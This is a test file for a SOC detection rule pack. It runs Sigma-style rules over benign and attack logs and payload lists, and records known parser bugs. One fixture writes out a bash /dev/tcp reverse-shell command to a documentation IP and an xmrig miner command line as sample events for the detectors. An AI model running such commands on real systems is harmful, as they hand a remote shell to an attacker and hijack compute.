// The MiniSOC rule pack (rules/*.yml) through the production engine: load, the rules' own tests, metadata,
// benign and attack logs through the real parsers, payload coverage, and the known issues found on the way.
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { connectionEvent, portEvent, processEvent, resourceEvent, type Stamp } from '../agent/events.js';
import type { ProcessInfo, SocketInfo } from '../agent/snapshot.js';
import { fieldGetter } from '../services/core/ecs.js';
import type { Event } from '../services/core/proto.js';
import { eventFromDoc } from '../services/detect/event-doc.js';
import { huntEvents, runRuleTests, type HuntMatch } from '../services/detect/hunt.js';
import { tacticOf, technique } from '../services/detect/mitre/index.js';
import { eventLogsource } from '../services/detect/sigma/logsource.js';
import { loadRules, loadRuleTexts } from '../services/detect/sigma/loader.js';
import { formatProblem, type SigmaRule } from '../services/detect/sigma/types.js';
import { normalizeTelemetry } from '../services/normalize/core.js';
import { parseFile } from '../tools/cli/parse.js';

const HERE = dirname(fileURLToPath(import.meta.url));
const TESTDATA = join(HERE, 'testdata');
const SHARED = join(HERE, '..', '..', 'shared', 'data');

const { rules, problems } = loadRules([HERE]);
const byTitle = new Map(rules.map((r) => [r.title, r]));

/** Parses a testdata file with the production parsers and gives each event a stable id. */
function parsed(file: string): { events: Event[]; rejects: string[] } {
  const p = parseFile(file, 'auto', 'pack-test');
  const events = p.events.map((e, i) => { e.event.id = `${i}`; return e.event; });
  return { events, rejects: p.rejects.map((r) => `${file}:${r.line}: ${r.error}`) };
}

function hunt(events: Event[], opts = {}): HuntMatch[] {
  return huntEvents(rules, events, opts).matches;
}

const loud = (ms: HuntMatch[]): string[] => ms.filter((m) => m.level === 'high' || m.level === 'critical').map((m) => `${m.level}: ${m.ruleTitle} (event ${m.index})`);
const alerting = (ms: HuntMatch[]): string[] => [...new Set(ms.filter((m) => m.level !== 'informational').map((m) => m.ruleTitle))].sort();

describe('the rule pack loads', () => {
  it('without errors', () => {
    expect(problems.filter((p) => p.severity === 'error').map(formatProblem)).toEqual([]);
  });

  it('without warnings either', () => {
    expect(problems.map(formatProblem)).toEqual([]);
  });

  it('has the rules it is meant to have', () => {
    expect(rules.length).toBe(44);
    expect(new Set(rules.map((r) => r.id)).size).toBe(rules.length);
  });
});

describe("the rules' own tests", () => {
  const results = runRuleTests(rules);

  it('all pass through the production engine', () => {
    const failed = results.filter((r) => !r.passed).map((r) => `${r.source.file}:${r.line} ${r.title} [${r.test}]: ${r.message}`);
    expect(failed, `failed rule tests:\n${failed.join('\n')}`).toEqual([]);
    expect(results.length).toBeGreaterThanOrEqual(238);
  });

  it('every rule has at least one positive and one negative test', () => {
    const positive = (e: boolean | number): boolean => e === true || (typeof e === 'number' && e > 0);
    const missing = rules.filter((r) => !r.tests.some((t) => positive(t.expect)) || !r.tests.some((t) => !positive(t.expect)))
      .map((r) => `${r.source.file}:${r.source.line} ${r.title}`);
    expect(missing, `rules without a positive and a negative test:\n${missing.join('\n')}`).toEqual([]);
  });
});

describe('rule metadata', () => {
  const attackTags = (r: SigmaRule): string[] => r.tags.filter((t) => t.startsWith('attack.'));
  const techniqueIds = (r: SigmaRule): string[] => attackTags(r).filter((t) => /^attack\.t\d{4}(\.\d{3})?$/.test(t)).map((t) => t.slice(7).toUpperCase());

  it('every rule has at least one ATT&CK technique tag (attack.tNNNN[.NNN])', () => {
    const missing = rules.filter((r) => techniqueIds(r).length === 0).map((r) => r.title);
    expect(missing).toEqual([]);
  });

  it('every technique exists in ATT&CK v18 and every other attack.* tag is a tactic', () => {
    const bad: string[] = [];
    for (const r of rules) {
      for (const id of techniqueIds(r)) if (!technique(id)) bad.push(`${r.title}: unknown technique ${id}`);
      for (const t of attackTags(r)) if (!/^attack\.t\d/.test(t) && !tacticOf(t.slice(7))) bad.push(`${r.title}: ${t} is not a tactic`);
    }
    expect(bad).toEqual([]);
  });

  it('every tactic a rule names is served by one of its techniques, and every technique by one of its tactics', () => {
    const bad: string[] = [];
    for (const r of rules) {
      const tactics = attackTags(r).filter((t) => !/^attack\.t\d/.test(t)).map((t) => tacticOf(t.slice(7))!);
      const served = new Set(techniqueIds(r).flatMap((id) => technique(id)?.tactics ?? []));
      for (const t of tactics) if (!served.has(t)) bad.push(`${r.title}: tactic ${t} is served by none of its techniques`);
      for (const id of techniqueIds(r)) if (tactics.length && !technique(id)!.tactics.some((t) => tactics.includes(t))) bad.push(`${r.title}: ${id} serves none of its tactics`);
    }
    expect(bad).toEqual([]);
  });

  it('every rule has a level, a description and false positives', () => {
    const bad = rules.filter((r) => !r.description || r.falsepositives.length === 0).map((r) => r.title);
    expect(bad).toEqual([]);
  });
});

describe('benign activity through the real parsers', () => {
  const files = ['benign_auth.log', 'benign_web_access.log', 'benign_windows.xml', 'benign_agent.ndjson'];
  for (const f of files) {
    it(`${f} parses cleanly and raises no high or critical alert`, () => {
      const { events, rejects } = parsed(join(TESTDATA, f));
      expect(rejects).toEqual([]);
      expect(events.length).toBeGreaterThan(30);
      expect(loud(hunt(events))).toEqual([]);
    });
  }

  it('all benign files together raise no alert above informational at all', () => {
    const events = files.flatMap((f) => parsed(join(TESTDATA, f)).events);
    events.forEach((e, i) => { e.id = `${i}`; });
    expect(alerting(hunt(events))).toEqual([]);
  });
});

describe('attacks through the real parsers', () => {
  const expected: Record<string, string[]> = {
    'attack_auth.log': [
      'SSH brute force from one address', 'SSH login after a brute force from the same address', 'SSH password spraying from one address',
      'sudo authentication failed', 'sudo refused - user not in sudoers or command not allowed',
    ],
    'attack_pam_auth.log': ['PAM authentication brute force from one remote host', 'PAM password spraying from one remote host'],
    'attack_web_access.log': [
      'Cross-site scripting attempt in a request URL', 'File inclusion through a PHP stream wrapper or a file URL', 'Many HTTP 404 responses to one client',
      'OS command injection attempt in a request URL', 'Path traversal attempt in a request URL', 'Possible OS command injection in a request URL',
      'SQL injection attempt in a request URL', 'SSRF attempt - a URL to a loopback or private address in a request',
      'SSRF attempt against a cloud metadata service or through a raw-socket URL scheme', 'Server-side template or expression injection in a request URL',
      'Template injection probe in a request URL', 'Web vulnerability scanner user agent',
    ],
    'attack_windows.xml': [
      'Encoded PowerShell command line', 'Event log cleared from the command line', 'LSASS memory access with a credential-dumping access mask',
      'Network connection to a threat-intelligence listed address', 'Windows Security audit log cleared', 'Windows event log cleared',
      'Windows logon brute force from one address', 'Windows logon password spraying from one address',
      'Windows network logon after a brute force from the same address',
    ],
    'attack_agent.ndjson': [
      'Crypto-miner process', 'New listening port on an uncommon port', 'Network connection to a threat-intelligence listed address',
      'Port scan - one source connecting to many ports', 'Possible beaconing - many connections from one host to one external address',
      'Reverse shell command line', 'Sustained high CPU usage on a host',
    ],
  };
  for (const [f, titles] of Object.entries(expected)) {
    it(`${f} raises exactly the expected alerts`, () => {
      const { events, rejects } = parsed(join(TESTDATA, f));
      expect(rejects).toEqual([]);
      expect(alerting(hunt(events))).toEqual([...titles].sort());
    });
  }

  it('every alerting rule of the pack is exercised by an attack file', () => {
    const fired = new Set(Object.values(expected).flat());
    const unexercised = rules.filter((r) => r.level !== 'informational' && !fired.has(r.title)).map((r) => r.title);
    expect(unexercised).toEqual([]);
  });

  it('the prefilter changes no result on any testdata file', () => {
    for (const f of [...Object.keys(expected), 'benign_auth.log', 'benign_web_access.log', 'benign_windows.xml', 'benign_agent.ndjson']) {
      const { events } = parsed(join(TESTDATA, f));
      const key = (ms: HuntMatch[]) => ms.map((m) => `${m.index}|${m.ruleId}`).sort();
      expect(key(hunt(events, { prefilter: false })), f).toEqual(key(hunt(events)));
    }
  });
});

describe('real Windows samples from shared/data', () => {
  const cases: [string, string][] = [
    ['sysmon-samples/sysmon/Sysmon_10_High_ProcessAccess_RuleAlert.sample.xml', 'LSASS memory access with a credential-dumping access mask'],
    ['sysmon-samples/sysmon/Sysmon_10_Low_ProcAccess.sample.xml', 'LSASS memory access with a credential-dumping access mask'],
    ['sysmon-samples/builtin/Security/Default/Sec_1102_High_SecLogCleared.sample.xml', 'Windows Security audit log cleared'],
    ['sysmon-samples/builtin/System/Sys_104_Med_LogCleared.sample.xml', 'Windows event log cleared'],
    ['sigma-regression/cases/rules/windows/process_creation/proc_creation_win_powershell_base64_invoke/6385697e-9f1b-40bd-8817-f4a91f40508e.xml', 'Encoded PowerShell command line'],
  ];
  for (const [file, title] of cases) {
    it.skipIf(!existsSync(join(SHARED, file)))(`${file.split('/').pop()} raises "${title}"`, () => {
      const { events, rejects } = parsed(join(SHARED, file));
      expect(rejects).toEqual([]);
      expect(alerting(hunt(events))).toEqual([title]);
    });
  }

  it.skipIf(!existsSync(join(SHARED, 'threat-intel', 'feodo.ipset')))('the Feodo sample in the threat-intel rule comes from feodo.ipset', () => {
    const listed = new Set(readFileSync(join(SHARED, 'threat-intel', 'feodo.ipset'), 'utf8').split('\n').filter((l) => l && !l.startsWith('#')));
    const rule = readFileSync(join(HERE, 'network_threat_intel.yml'), 'utf8');
    const sample = [...rule.matchAll(/- (\d+\.\d+\.\d+\.\d+)\/32/g)].map((m) => m[1]!);
    expect(sample.length).toBeGreaterThanOrEqual(10);
    expect(sample.filter((ip) => !listed.has(ip))).toEqual([]);
  });
});

describe('web injection rules over the shared payload lists', () => {
  const P = join(SHARED, 'attack-payloads');
  const sqli = byTitle.get('SQL injection attempt in a request URL')!;
  const xss = byTitle.get('Cross-site scripting attempt in a request URL')!;
  const encodings: Record<string, (s: string) => string> = {
    percent: (s) => [...Buffer.from(s)].map((b) => (/[A-Za-z0-9_.~-]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).toUpperCase().padStart(2, '0')}`)).join(''),
    form: (s) => encodeURIComponent(s).replace(/%20/g, '+'),
    uri_component: (s) => encodeURIComponent(s),
  };
  const lists: [string, SigmaRule, number][] = [
    ['payloadbox-sqli/Intruder/detect/Generic_UnionSelect.txt', sqli, 0.98],
    ['payloadbox-sqli/Intruder/detect/Generic_TimeBased.txt', sqli, 0.95],
    ['payloadbox-sqli/Intruder/detect/GenericBlind.txt', sqli, 0.95],
    ['payloadbox-sqli/Intruder/detect/Generic_ErrorBased.txt', sqli, 0.95],
    ['payloadbox-sqli/Intruder/exploit/Auth_Bypass.txt', sqli, 0.85],
    ['payloadbox-sqli/Intruder/payloads-sql-blind/MySQL/payloads-sql-blind-MySQL-WHERE.txt', sqli, 0.95],
    ['payloadbox-xss/Intruder/xss-payload-list.txt', xss, 0.98],
  ];
  for (const [file, rule, min] of lists) {
    it.skipIf(!existsSync(join(P, file)))(`${file.split('/').pop()}: at least ${min * 100} % detected in every encoding`, () => {
      const payloads = readFileSync(join(P, file), 'utf8').split('\n').map((l) => l.replace(/\r$/, '')).filter((l) => l.trim() && !l.startsWith('#'));
      for (const [name, enc] of Object.entries(encodings)) {
        const events = payloads.map((p, i) => {
          const e = eventFromDoc({ 'url.original': `/item.php?id=${enc(p)}`, 'http.request.method': 'GET', 'source.ip': '198.51.100.7', '@timestamp': '2025-06-01T00:00:00Z' });
          e.id = `${i}`;
          return e;
        });
        const hit = new Set(huntEvents([rule], events).matches.map((m) => m.index));
        expect(hit.size / payloads.length, `${name}: ${hit.size}/${payloads.length}`).toBeGreaterThanOrEqual(min);
      }
    });
  }

  it('no ordinary request of the benign access log matches', () => {
    const { events } = parsed(join(TESTDATA, 'benign_web_access.log'));
    expect(huntEvents([sqli, xss, byTitle.get('Path traversal attempt in a request URL')!], events).matches.map((m) => events[m.index]?.url?.original)).toEqual([]);
  });
});

// ---------------------------------------------------------------- agent telemetry as the agent builds it

const STAMP: Stamp = { agentId: 'agent-web-1', version: '0.1.0', hostName: 'web-1' };
const T0 = Date.UTC(2025, 5, 1, 0, 0, 0);
const FPM: ProcessInfo = { pid: 1000, ppid: 1, name: 'php-fpm8.2', executable: '/usr/sbin/php-fpm8.2', commandLine: 'php-fpm: pool www', args: [], user: 'www-data', startMs: T0 - 1e6, cpu: 0, memoryRss: 1e7, kernel: false };
const proc = (pid: number, name: string, exe: string, cmd: string): ProcessInfo => ({ pid, ppid: FPM.pid, name, executable: exe, commandLine: cmd, args: cmd.split(' '), user: 'www-data', startMs: T0, cpu: 0, memoryRss: 1e6, kernel: false });
const sock = (localIp: string, localPort: number, remoteIp: string, remotePort: number, state: string, processName: string): SocketInfo => ({ transport: 'tcp', type: 'ipv4', localIp, localPort, remoteIp, remotePort, state, pid: 4242, processName });

/** Agent events as the pipeline sees them: built by agent/events.ts, then normalizeTelemetry (ids, agent, host name). */
function fromAgent(built: Event[]): Event[] {
  return normalizeTelemetry({ agent_id: STAMP.agentId, batch_seq: 1, created_ms: T0, events: built, host: { name: 'web-1', os_family: 'linux' } }, { idPrefix: 'agent', nowMs: T0 }).events;
}

describe('agent telemetry built by agent/events.ts', () => {
  it('reaches the process and network rules', () => {
    const events = fromAgent([
      processEvent(STAMP, T0, 'started', proc(5001, 'bash', '/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'), FPM),
      processEvent(STAMP, T0 + 1000, 'started', proc(5002, 'xmrig', '/tmp/.x/xmrig', '/tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333'), FPM),
      portEvent(STAMP, T0 + 2000, 'opened', sock('0.0.0.0', 4444, '0.0.0.0', 0, 'LISTEN', 'nc')),
      connectionEvent(STAMP, T0 + 3000, sock('192.0.2.10', 51000, '5.39.222.172', 8080, 'ESTABLISHED', 'bash'), false),
    ]);
    expect(alerting(hunt(events))).toEqual([
      'Crypto-miner process', 'Network connection to a threat-intelligence listed address', 'New listening port on an uncommon port', 'Reverse shell command line',
    ]);
  });
});

// ---------------------------------------------------------------- known issues
//
// Each test below states what should hold. Those marked `fails` do not hold yet: the bug is outside
// rules/ (engine, parsers, agent); when one is fixed its test starts failing: drop the `.fails`.

describe('known issues (outside rules/)', () => {
  it('agent events carry host.os.family, so product: linux rules see them (agent/events.ts, normalizeTelemetry)', () => {
    // base() in agent/events.ts stamps host.name/hostname only; the OS facts travel once in batch.host and
    // normalizeTelemetry copies only host.name. Real resource samples therefore never reach
    // 'Host CPU saturated' (logsource product: linux), and the sustained-CPU correlation never fires.
    const samples = Array.from({ length: 60 }, (_, i) => resourceEvent(STAMP, T0 + i * 10_000,
      { cpuUsage: 0.99, memoryTotal: 8e9, memoryUsed: 4e9, diskUsage: 0.4, diskMount: '/', networkRxBytes: 0, networkTxBytes: 0 }));
    expect(alerting(hunt(fromAgent(samples)))).toEqual(['Sustained high CPU usage on a host']);
  });

  it("sshd-session lines (OpenSSH 9.8+) belong to the logsource service 'sshd' (sigma/logsource.ts LINUX_SERVICES)", () => {
    // The syslog parser treats sshd, sshd-session and sshd-auth alike (event.action ssh_login), but
    // LINUX_SERVICES only maps 'sshd': a rule on service: sshd misses every login on Debian 13, Fedora 40+.
    // The pack's SSH rules use service: auth + event.action ssh_login, which is not affected.
    const { rules: probe } = loadRuleTexts({ 'probe.yml': `title: probe
id: 0b7e4c1e-52a5-4f39-9d0b-1c2f3a4b5c6d
level: high
logsource: {product: linux, service: sshd}
detection: {selection: {event.outcome: failure}, condition: selection}
` });
    const events = eventsOfLines(['Jun  1 10:02:05 web1 sshd-session[1302]: Failed password for bob from 192.0.2.11 port 51001 ssh2']);
    expect(huntEvents(probe, events).matches.length).toBe(1);
  });

  it('agent events are not placed in syslog services because of their process name (sigma/logsource.ts)', () => {
    // LINUX_SERVICES is applied to any event's process.name: an agent connection event owned by sshd, or a
    // process event of sudo, gets services sshd/sudo + auth + syslog and product linux, so syslog rules
    // (keywords, service: sshd / sudo / auth) are tried on agent telemetry.
    const [e] = fromAgent([connectionEvent(STAMP, T0, sock('192.0.2.10', 22, '198.51.100.5', 50123, 'ESTABLISHED', 'sshd'), true)]);
    expect(eventLogsource(e!).services).not.toContain('syslog');
  });

  it.fails('threat.indicator.value written dotted in a rule test event is kept (detect/event-doc.ts)', () => {
    // eventFromDoc handles 'threat.indicator' (an object or list) but a dotted 'threat.indicator.value' key
    // goes to extra_json, where fieldGetter('threat.indicator.value') never looks (it reads e.threat).
    const e = eventFromDoc({ 'destination.ip': '5.39.222.172', 'threat.indicator.value': '5.39.222.172' });
    expect(fieldGetter('threat.indicator.value')(e)).toEqual(['5.39.222.172']);
  });

  it.fails('threat indicators survive an ECS export read back by the JSON parser (normalize/parsers/json.ts)', () => {
    // toEcs writes threat.indicator as a list of objects; jsonObjectToEvent keeps it in extra_json, so
    // `soc rules eval` over exported enriched events loses every indicator (tags survive).
    const events = eventsOfNdjson([{ '@timestamp': '2025-06-01T00:00:00Z', event: { category: ['network'], type: ['connection'] }, destination: { ip: '5.39.222.172' },
      tags: ['threat-intel'], threat: { indicator: [{ value: '5.39.222.172', type: 'ipv4-addr' }] } }]);
    expect(fieldGetter('threat.indicator.value')(events[0]!)).toEqual(['5.39.222.172']);
  });

  it('CEF firewall traffic reaches a network logsource (normalize/parsers/cef.ts)', () => {
    // CEF events get no event.category, so eventLogsource gives them no product, category or service: no
    // rule on network_connection or firewall (the port-scan rule's natural source) ever sees them.
    const events = eventsOfLines(['CEF:0|Palo Alto Networks|PAN-OS|10.1|TRAFFIC|deny|3|src=198.51.100.66 dst=192.0.2.10 spt=51234 dpt=3389 proto=TCP act=deny']);
    const ls = eventLogsource(events[0]!);
    expect([...ls.categories, ...ls.services].some((c) => c === 'firewall' || c === 'network_connection')).toBe(true);
  });

  it.fails('access-log events name their web server as the product (normalize/parsers/access.ts)', () => {
    // logsource.ts gives web events the product apache / nginx / iis from event.module, but the access
    // parser sets no event.module, even for a source declared --format nginx: 'product: nginx' rules never
    // match. The pack's web rules use category webserver only.
    const dir = mkdtempSync(join(tmpdir(), 'minisoc-pack-'));
    const file = join(dir, 'access.log');
    writeFileSync(file, '192.0.2.20 - - [01/Jun/2025:10:00:00 +0000] "GET / HTTP/1.1" 200 512 "-" "curl/8.5.0"\n');
    try {
      const [e] = parseFile(file, 'nginx').events;
      expect(eventLogsource(e!.event).products).toContain('nginx');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it.fails('YAML merge keys in rule files are merged or refused, not kept as a literal "<<" key (detect/sigma/loader.ts)', () => {
    // RULE_SCHEMA extends the FAILSAFE schema without the merge type: `{<<: *base, ...}` in a test event
    // silently becomes a field named "<<", and the test runs on an event without the base fields.
    const r = loadRuleTexts({ 'merge.yml': `title: merge
id: 5c1f0d2e-8a7b-4c3d-9e6f-0a1b2c3d4e5f
level: high
logsource: {category: webserver}
detection: {selection: {url.original: /a}, condition: selection}
tests:
    - name: merged
      match: true
      events: [&base {url.original: /a}, {<<: *base, source.ip: 192.0.2.1}]
` });
    const second = r.rules[0]?.tests[0]?.events[1] ?? {};
    expect(r.problems.some((p) => p.severity === 'error') || !('<<' in second)).toBe(true);
  });

  it('parseFile reports the line of every record (tools/cli/parse.ts)', () => {
    // The line search restarts at the previous record's own start (pos = at), so records whose first 40
    // characters (1 for JSON) repeat all get the first one's line: every NDJSON record is line 1, every
    // <Event> of an exported XML file the line of the first. `soc rules eval` prints those lines.
    const p = parseFile(join(TESTDATA, 'benign_agent.ndjson'));
    expect(p.events.slice(0, 3).map((e) => e.line)).toEqual([1, 2, 3]);
  });
});

function eventsOfLines(lines: string[]): Event[] {
  return parsedText(lines.join('\n') + '\n', 'log');
}

function eventsOfNdjson(docs: unknown[]): Event[] {
  return parsedText(docs.map((d) => JSON.stringify(d)).join('\n') + '\n', 'ndjson');
}

function parsedText(text: string, ext: string): Event[] {
  // parseFile reads files: a scratch file keeps the parse path the CLI's.
  const dir = mkdtempSync(join(tmpdir(), 'minisoc-pack-'));
  const file = join(dir, `events.${ext}`);
  writeFileSync(file, text);
  try {
    return parsed(file).events;
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
